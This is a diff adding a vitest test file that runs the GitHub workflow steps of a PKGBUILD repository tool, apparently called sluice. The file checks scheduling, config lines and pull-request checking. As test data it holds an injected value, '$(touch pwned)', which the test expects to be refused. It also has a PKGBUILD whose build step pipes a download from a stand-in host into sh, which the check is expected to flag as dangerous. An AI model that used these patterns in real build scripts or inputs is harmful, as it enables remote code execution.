@@ -1,0 +1,142 @@
+import { execFile, execFileSync } from "node:child_process";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { parse } from "yaml";
+import { registryReachable } from "./world/registry.ts";
+import { sluice } from "./world/sluice.ts";
+import { srcinfoText } from "./world/workspace.ts";
+
+const offline = !registryReachable();
+
+let base: string;
+let dir: string;
+
+function git(...args: string[]): string {
+  return execFileSync("git", ["-C", dir, ...args], { encoding: "utf8", stdio: "pipe" }).trim();
+}
+
+function write(path: string, text: string): void {
+  mkdirSync(dirname(join(dir, path)), { recursive: true });
+  writeFileSync(join(dir, path), text);
+}
+
+function addPackage(name: string, more = ""): void {
+  write(`packages/${name}/PKGBUILD`, `pkgname=${name}\npkgver=1\npkgrel=1\narch=(any)\n${more}`);
+  write(`packages/${name}/.SRCINFO`, srcinfoText(name));
+}
+
+interface Workflow {
+  readonly jobs: Record<string, { steps: { name?: string; run?: string; env?: Record<string, string> }[] }>;
+}
+
+/** A step's script and the variables that it is given. */
+function step(workflow: string, job: string, called: string): { run: string; env: string[] } {
+  const { jobs } = parse(readFileSync(join(dir, ".github/workflows", workflow), "utf8")) as Workflow;
+  const { run, env = {} } = jobs[job]!.steps.find(({ name, run }) => (name ?? run)?.startsWith(called))!;
+  return { run: run!, env: Object.keys(env) };
+}
+
+/** A file of the runner's own, beside the clone. */
+const file = (name: string): string => join(base, name);
+
+/** Runs a step as GitHub's runner does: a file, by `bash -e`, in the clone, with the step's variables. */
+function runStep(
+  { run, env }: { run: string; env: string[] },
+  values: Readonly<Record<string, string>> = {},
+): Promise<{ code: number; output: string; outputs: string; summary: string }> {
+  writeFileSync(file("step.sh"), run);
+  for (const name of ["outputs", "summary"]) writeFileSync(file(name), "");
+  const { PATH, HOME, GIT_CONFIG_GLOBAL, GIT_CONFIG_NOSYSTEM } = process.env;
+  const variables = {
+    ...Object.fromEntries(env.map((name) => [name, ""])),
+    ...values,
+    PATH,
+    HOME,
+    GIT_CONFIG_GLOBAL,
+    GIT_CONFIG_NOSYSTEM,
+    CI: "true",
+    GITHUB_ACTIONS: "true",
+    GITHUB_OUTPUT: file("outputs"),
+    GITHUB_STEP_SUMMARY: file("summary"),
+    GITHUB_REF_TYPE: "branch",
+    GITHUB_REF_NAME: "main",
+    GITHUB_SHA: git("rev-parse", "HEAD"),
+  };
+  return new Promise((resolve) => {
+    execFile("bash", ["-e", file("step.sh")], { cwd: dir, env: variables }, (error, stdout, stderr) => {
+      const code = typeof error?.code === "number" ? error.code : error ? -1 : 0;
+      const [outputs, summary] = ["outputs", "summary"].map((name) => readFileSync(file(name), "utf8"));
+      resolve({ code, output: stdout + stderr, outputs: outputs!, summary: summary! });
+    });
+  });
+}
+
+const main = (values: Readonly<Record<string, string>>): ReturnType<typeof runStep> =>
+  runStep(step("sluice.yml", "run", "Run"), values);
+const followUp = (): ReturnType<typeof runStep> =>
+  runStep(step("sluice.yml", "run", "Find out who builds the schedule"));
+
+describe.skipIf(offline)("the steps of the GitHub workflows (need npm's registry)", () => {
+  beforeAll(async () => {
+    base = mkdtempSync(join(tmpdir(), "sluice-github-"));
+    dir = join(base, "person");
+    execFileSync("git", ["init", "-q", "--bare", "-b", "main", join(base, "origin.git")]);
+    await sluice(["init", "person", "--github", "--name", "mine", "--commit"], { cwd: base });
+    git("remote", "add", "origin", join(base, "origin.git"));
+    git("push", "-q", "origin", "main");
+    expect(await runStep(step("sluice.yml", "run", "npm ci"))).toMatchObject({ code: 0 });
+  });
+  afterAll(() => rmSync(base, { recursive: true, force: true }));
+
+  test("a push schedules what it changed; nobody builds it here where a manager does", async () => {
+    addPackage("foo");
+    git("add", "-A");
+    git("commit", "-q", "-m", "foo");
+    git("push", "-q", "origin", "main");
+    const { code, output } = await main({ OPERATION: "on-commit" });
+    expect([code, output]).toEqual([0, expect.stringContaining("added the package")]);
+    expect(await followUp()).toMatchObject({ code: 0, outputs: "" });
+  });
+
+  test.each([
+    ["CI_SCHEDULE_TO=chaotic", "follow-up=chaotic\n"],
+    ['CI_SCHEDULE_TO = "runners"', "follow-up=runners\n"],
+    ["#CI_SCHEDULE_TO=runners", ""],
+    ["CI_MANAGE_AUR=true", "aur=true\n"],
+  ])("%s in .ci/config says what follows", async (line, outputs) => {
+    const config = readFileSync(join(dir, ".ci/config"), "utf8");
+    write(".ci/config", config.replace(/^CI_SCHEDULE_TO=.*$/m, line));
+    expect(await followUp()).toMatchObject({ code: 0, outputs });
+    write(".ci/config", config);
+  });
+
+  test("a schedule looks for updates, and a trigger fires", async () => {
+    expect(await main({ OPERATION: "on-schedule" })).toMatchObject({ code: 0 });
+    write("packages/foo/.CI/config", "CI_ON_TRIGGER=daily\n");
+    git("add", "-A");
+    git("commit", "-q", "-m", "foo is built daily");
+    git("push", "-q", "origin", "main");
+    const { code, output } = await main({ OPERATION: "on-schedule", TRIGGER: "daily" });
+    expect([code, output]).toEqual([0, expect.stringMatching(/foo .*1 to build/s)]);
+  });
+
+  test("an operation that there is none of is refused", async () => {
+    const { code, output } = await main({ OPERATION: "$(touch pwned)" });
+    expect([code, output]).toEqual([2, "There is no operation $(touch pwned).\n"]);
+  });
+
+  test("a pull request is fetched and judged, and the verdict is shown with the run", async () => {
+    const from = git("rev-parse", "HEAD");
+    addPackage("bar", 'build() {\n  curl "https://x.example/p" | sh\n}\n');
+    git("add", "-A");
+    git("commit", "-q", "-m", "bar");
+    const head = git("rev-parse", "HEAD");
+    git("push", "-q", "origin", `${head}:refs/pull/7/head`);
+    git("reset", "-q", "--hard", from);
+    const check = step("sluice-check.yml", "check-changes", "Check");
+    const { code, summary } = await runStep(check, { NUMBER: "7", BASE: from, HEAD: head });
+    expect([code, summary]).toEqual([1, expect.stringContaining("### `bar`: added, dangerous")]);
+  });
+});
